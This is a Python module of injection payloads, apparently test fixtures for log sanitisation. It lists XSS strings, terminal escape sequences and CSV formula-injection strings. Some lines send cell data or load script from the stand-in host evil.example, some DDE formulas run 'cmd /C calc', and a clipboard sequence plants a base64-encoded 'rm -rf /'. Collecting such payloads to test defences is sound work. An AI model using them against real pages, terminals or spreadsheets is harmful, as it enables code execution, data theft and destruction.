"""What people have put into logs to make a page, a terminal or a spreadsheet obey it."""

import re

#: Forty payloads; each would add an element or an attribute to a page that shows it unescaped.
XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "</script><script>alert(1)</script>",
    "</title><script>1</script>",
    "</textarea><script>1</script>",
    "</pre><script>1</script>",
    "</td><td onclick=alert(1)>",
    "--><script>1</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>1</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mi xlink:href=javascript:1>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:1'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example/>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "<template><script>1</script></template>",
]

#: What a terminal obeys or hides: C0 and C1 controls, line separators, bidirectional marks, zero width, tags.
HARMFUL = re.compile(
    "[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
)
#: Things that terminals have been made to do.
TERMINAL = [
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # a link with another text
    "\x1b]52;c;cm0gLXJmIC8=\x07",  # the clipboard
    "\x1b]0;title\x07", "\x1b]2;title\x1b\\",  # the window's title
    "\x7fdelete", "\x1b[21t", "\x1b[6n", "\x1b[c", "\x05",  # an answer that is typed into the shell
    '\x1bP$q"p\x1b\\', "\x1bPq\x1b\\", "\x1b_G\x1b\\",  # device control, pictures
    "\x1b[2J\x1b[H", "\x1bc", "\x1b[?1049h",  # another screen
    "\x1b[1;31mred\x1b[0m", "\x1b[8mhidden\x1b[0m",  # colours, invisible text
    "\x9b31m", "\x9d52;c;eA==\x9c", "\x90q\x9c",  # the same with C1 controls
    "safe\rfake", "a\x08b", "line\x0bfeed\x0c", "\x85next",  # written over, other line ends
    "\u202egnp.exe", "a\u2066b\u2069", "\u200bzero", "\u2028line", "\ufeffmark",  # order and width
    "\udc9b31m", "\U000e0041tag",  # undecodable bytes, invisible letters
]  # fmt: skip

#: Twenty that a spreadsheet would compute, fetch or run when it opens a CSV file that holds them bare.
SPREADSHEET = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"more")', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMAGE("http://evil.example/x")', '=WEBSERVICE("http://evil.example/")', '=DDE("cmd";"/C calc";"x")',
    "\t=1+1", "\r=1+1", "\0=1+1", "'=1+1", "\uff1d1+1", "\uff0b1+1", '",=1+1,"',
]  # fmt: skip
